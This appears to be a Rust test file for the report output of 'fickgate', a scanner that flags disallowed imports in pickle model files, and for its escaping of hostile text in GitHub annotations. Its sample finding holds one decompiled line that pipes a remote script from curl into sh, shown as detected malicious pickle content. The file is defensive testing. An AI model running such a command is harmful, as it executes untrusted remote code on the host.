use serde_json::Value;

use super::*;
use crate::escape::is_hostile;
use crate::escape::tests::{HOSTILE, runner_obeys};
use crate::finding::{EntryRef, ReadFailure, Skipped, Snippet, SnippetLine, Tally};

const FORMATS: &[Format] = &[Format::Human, Format::Github, Format::Json];

pub(super) fn render(format: Format, outcome: &Outcome, style: &Style) -> String {
    let mut out = Vec::new();
    write(format, outcome, style, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn finding(rule: Rule, path: impl Into<Vec<u8>>, message: &str) -> Finding {
    Finding {
        rule,
        level: rule.level(),
        path: BlobPath::new(path.into()),
        member: String::new(),
        offset: None,
        import: None,
        message: message.to_owned(),
        help: None,
        entry: None,
        snippet: None,
    }
}

/// What a run over a small repository could find.
pub(super) fn sample() -> Outcome {
    let line = |offset, text: &str| SnippetLine { offset, text: text.to_owned() };
    let mut call = finding(
        Rule::ImportNotAllowed,
        "models/resnet.pt",
        "loading calls os.system, which is not on the allowlist",
    );
    call.member = "archive/data.pkl".to_owned();
    call.offset = Some(142);
    call.import = Some("os.system".to_owned());
    call.help = Some("if it belongs there: fickgate allow os.system --reason WHY".to_owned());
    call.snippet = Some(Snippet {
        lines: vec![
            line(7, "from os import system"),
            line(142, "_1 = system('curl http://example.org/x | sh')"),
            line(1600, "return {'weight': _1}"),
        ],
        marked: 1,
    });
    let mut typo = finding(
        Rule::ImportNotAllowed,
        "models/resnet.pt",
        "loading imports collections.OrderdDict, which is not on the allowlist",
    );
    typo.member = "archive/data.pkl".to_owned();
    typo.offset = Some(9);
    typo.import = Some("collections.OrderdDict".to_owned());
    typo.entry = Some(EntryRef {
        import: "collections.OrderedDict".to_owned(),
        layer: "built-in",
        source: "allowlists/stdlib.yaml".to_owned(),
        line: Some(12),
    });
    let mut expired =
        finding(Rule::ExpiredAllow, ".fickgate.yaml", "the entry for my.Model expired on 2026-01-01");
    expired.help = Some("give it a later date, or remove it".to_owned());
    let cut = {
        let mut f =
            finding(Rule::StreamMalformed, "a/old.pkl", "the stream ends inside the argument of BINUNICODE");
        f.offset = Some(0);
        f
    };
    let note = finding(Rule::NotAPickle, "weights.bin", "the extension is .bin, the content is raw data");
    Outcome {
        findings: vec![expired, cut, typo, call, note],
        skipped: vec![
            Skipped { path: BlobPath::new("third_party"), reason: "submodule" },
            Skipped { path: BlobPath::new("third_party2"), reason: "submodule" },
            Skipped { path: BlobPath::new("latest.pt"), reason: "symlink" },
        ],
        failures: vec![],
        tally: Tally { blobs: 12, streams: 3, imports: 41 },
    }
}

/// Hostile text in every field of every kind of record.
fn hostile() -> Outcome {
    let long = format!("{}##[error]x\n::error::{}", "a".repeat(1 << 19), "b".repeat(1 << 19));
    let mut outcome = Outcome::default();
    for text in HOSTILE.iter().copied().chain([long.as_str(), ""]) {
        for rule in [Rule::ImportNotAllowed, Rule::ExpiredAllow, Rule::PolicyChanged] {
            let mut f = finding(rule, text, text);
            f.member = text.to_owned();
            f.offset = Some(7);
            f.import = Some(text.to_owned());
            f.help = Some(text.to_owned());
            f.entry = Some(EntryRef {
                import: format!("x{text}"),
                layer: "repository",
                source: text.to_owned(),
                line: Some(1),
            });
            let lines = (0..3).map(|offset| SnippetLine { offset, text: text.to_owned() }).collect();
            f.snippet = Some(Snippet { lines, marked: 1 });
            outcome.findings.push(f.clone());
            f.snippet = None;
            f.path = BlobPath::new([text.as_bytes(), b"\xff\x9b"].concat());
            outcome.findings.push(f);
        }
        outcome.failures.push(ReadFailure { path: BlobPath::new(text), message: text.to_owned() });
        outcome.skipped.push(Skipped { path: BlobPath::new(text), reason: "symlink" });
    }
    outcome
}

fn many(n: usize) -> Outcome {
    let mut outcome = Outcome::default();
    for i in 0..n {
        let mut f = finding(Rule::ImportNotAllowed, format!("m/{:05}.pkl", i / 20), "not on the allowlist");
        f.offset = Some(i as u64);
        f.import = Some(format!("m.n{i}"));
        outcome.findings.push(f);
    }
    outcome
}

/// What the runner listens to: everything outside `::stop-commands::`.
fn heard(log: &str) -> String {
    let mut lines = log.lines();
    let mut heard = String::new();
    while let Some(line) = lines.next() {
        match line.strip_prefix("::stop-commands::") {
            None => heard.push_str(&format!("{line}\n")),
            Some(token) => {
                let resume = format!("::{token}::");
                assert!(lines.any(|l| l == resume), "commands stay stopped");
            }
        }
    }
    heard
}

#[test]
fn human_shows_the_decompiled_line_and_the_worst_file_first() {
    insta::assert_snapshot!(render(Format::Human, &sample(), &Style::default()));
}

#[test]
fn human_draws_with_unicode_and_colour_where_the_terminal_can() {
    let style = Style { color: true, unicode: true, width: 60, ..Style::default() };
    insta::assert_snapshot!(render(Format::Human, &sample(), &style).replace('\x1b', "␛"));
}

#[test]
fn quiet_leaves_the_summary_out_and_verbose_adds_notes_and_skipped_files() {
    let quiet = render(Format::Human, &sample(), &Style { quiet: true, ..Style::default() });
    assert!(quiet.contains("os.system") && !quiet.contains("fickgate:"));
    let verbose = render(Format::Human, &sample(), &Style { verbose: 1, ..Style::default() });
    assert!(verbose.contains("note[not-a-pickle]") && verbose.contains("skipped: latest.pt: symlink"));
    let plain = render(Format::Human, &sample(), &Style::default());
    assert!(!plain.contains("not-a-pickle]"));
}

#[test]
fn a_run_that_looked_at_nothing_does_not_read_like_a_clean_one() {
    let mut outcome = Outcome::default();
    let text = render(Format::Human, &outcome, &Style::default());
    assert_eq!(text, "fickgate: no findings in 0 blobs (0 pickles, 0 imports)\n");
    outcome.skipped.push(Skipped { path: BlobPath::new("x"), reason: "submodule" });
    outcome.failures.push(ReadFailure { path: BlobPath::new("y.pkl"), message: "permission denied".into() });
    let style = Style { elapsed: Some(std::time::Duration::from_millis(1234)), ..Style::default() };
    let text = render(Format::Human, &outcome, &style);
    assert!(text.contains("error: permission denied\n"), "{text}");
    assert!(text.ends_with("1 file could not be read; 1 skipped: submodule; 1.2 s\n"), "{text}");
}

#[test]
fn github_closes_the_runners_ears_and_annotates() {
    let mut out = Vec::new();
    github::write_with(&sample(), &Style::default(), "TOKEN", &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap());
}

#[test]
fn github_token_differs_from_run_to_run() {
    let first = |s: String| s.lines().next().map(str::to_owned);
    let a = first(render(Format::Github, &sample(), &Style::default()));
    let b = first(render(Format::Github, &sample(), &Style::default()));
    assert_ne!(a, b);
}

#[test]
fn github_keeps_to_ten_annotations_of_a_level_and_says_how_many_more() {
    for (n, annotations, more) in
        [(10, 10, None), (12, 10, Some(3)), (60, 10, Some(51)), (30_000, 10, Some(29_991))]
    {
        let heard = heard(&render(Format::Github, &many(n), &Style::default()));
        assert_eq!(heard.matches("::error ").count(), annotations, "{n}");
        match more {
            Some(more) => assert!(heard.contains(&format!("::and {more} more error findings")), "{heard}"),
            None => assert!(!heard.contains("more error")),
        }
    }
}

#[test]
fn json_is_the_documented_document() {
    insta::assert_snapshot!(render(Format::Json, &sample(), &Style::default()));
}

#[test]
fn json_keeps_paths_that_are_not_utf8() {
    let mut outcome = Outcome::default();
    outcome.findings.push(finding(Rule::StreamMalformed, *b"a\xff.pkl", "x"));
    let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
    assert_eq!(json["findings"][0]["path"], "a\\xff.pkl");
    assert_eq!(json["findings"][0]["path_hex"], "61ff2e706b6c");
}

#[test]
fn json_loses_nothing_of_hostile_text() {
    let outcome = hostile();
    let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
    for (finding, written) in outcome.findings.iter().zip(json["findings"].as_array().unwrap()) {
        assert_eq!(written["member"], finding.member.as_str());
        assert_eq!(written["message"], finding.message.as_str());
        assert_eq!(written["import"].as_str(), finding.import.as_deref());
    }
}

#[test]
fn no_format_lets_hostile_text_speak() {
    let outcome = hostile();
    for format in FORMATS.iter().copied() {
        for style in [Style::default(), Style { unicode: true, width: 40, verbose: 1, ..Style::default() }] {
            let text = render(format, &outcome, &style);
            let bad = text.chars().find(|c| is_hostile(*c) && *c != '\n');
            assert_eq!(bad, None, "{format:?}");
            if format == Format::Github {
                // Nothing but our own annotations is heard, and the stopped part would be mute anyway.
                let ours = ["::error ", "::warning ", "::notice "];
                for line in heard(&text).lines().filter(|l| !l.is_empty()) {
                    assert!(ours.iter().any(|c| line.starts_with(c)), "{line}");
                    let (_, rest) = line.split_once(' ').unwrap();
                    assert_eq!(rest.split_once("::").unwrap().0.matches(':').count(), 0, "{line}");
                    assert!(!line.contains("##["));
                }
                let inner: Vec<&str> = text.lines().filter(|l| !l.starts_with("::")).collect();
                assert!(!runner_obeys(&inner.join("\n")));
            } else {
                assert!(!runner_obeys(&text), "{format:?}");
            }
        }
    }
}

#[test]
fn thirty_thousand_findings_are_counted_in_every_format() {
    for n in [12, 60, 30_000] {
        let outcome = many(n);
        let human = render(Format::Human, &outcome, &Style::default());
        assert!(human.contains(&format!("{n} errors in")));
        let listed = human.matches("error[").count();
        let more =
            human.split("and ").nth(1).and_then(|s| s.split(' ').next()).map_or(0, |s| s.parse().unwrap());
        assert_eq!(listed + more, n);
        let verbose = render(Format::Human, &outcome, &Style { verbose: 1, ..Style::default() });
        assert_eq!(verbose.matches("error[").count(), n);
        let json: Value = serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
        assert_eq!(json["findings"].as_array().unwrap().len(), n);
        assert_eq!(json["summary"]["findings"], n);
    }
}

/// What is wrong with `value` under `schema`: the part of JSON Schema that `docs/report.schema.json`
/// uses, and keys the schema does not name.
fn violations(root: &Value, schema: &Value, value: &Value, at: &str, wrong: &mut Vec<String>) {
    if let Some(name) = schema["$ref"].as_str() {
        let target = root.pointer(name.trim_start_matches('#')).expect("a $ref has a target");
        return violations(root, target, value, at, wrong);
    }
    let is = |name: &str| match name {
        "object" => value.is_object(),
        "array" => value.is_array(),
        "string" => value.is_string(),
        "integer" => value.is_u64() || value.is_i64(),
        "null" => value.is_null(),
        other => panic!("the schema names a type {other}"),
    };
    let types: Vec<&str> = match &schema["type"] {
        Value::String(one) => vec![one],
        Value::Array(many) => many.iter().filter_map(Value::as_str).collect(),
        _ => vec![],
    };
    if !types.is_empty() && !types.into_iter().any(is) {
        wrong.push(format!("{at}: {value} is not {}", schema["type"]));
    }
    if schema.get("const").is_some_and(|c| c != value)
        || schema["enum"].as_array().is_some_and(|e| !e.contains(value))
    {
        wrong.push(format!("{at}: {value} is not a listed value"));
    }
    if let Some(object) = value.as_object() {
        for key in schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str) {
            if !object.contains_key(key) {
                wrong.push(format!("{at}: {key} is missing"));
            }
        }
        for (key, inner) in object {
            match schema["properties"].get(key) {
                Some(schema) => violations(root, schema, inner, &format!("{at}.{key}"), wrong),
                None => wrong.push(format!("{at}: {key} is not in the schema")),
            }
        }
    }
    for (i, inner) in value.as_array().into_iter().flatten().enumerate() {
        violations(root, &schema["items"], inner, &format!("{at}[{i}]"), wrong);
    }
}

#[test]
fn json_follows_its_schema() {
    let schema: Value = serde_json::from_str(include_str!("../../docs/report.schema.json")).unwrap();
    for outcome in [Outcome::default(), sample(), hostile()] {
        let document: Value =
            serde_json::from_str(&render(Format::Json, &outcome, &Style::default())).unwrap();
        let mut wrong = Vec::new();
        violations(&schema, &schema, &document, "$", &mut wrong);
        assert_eq!(wrong, Vec::<String>::new());
    }
}
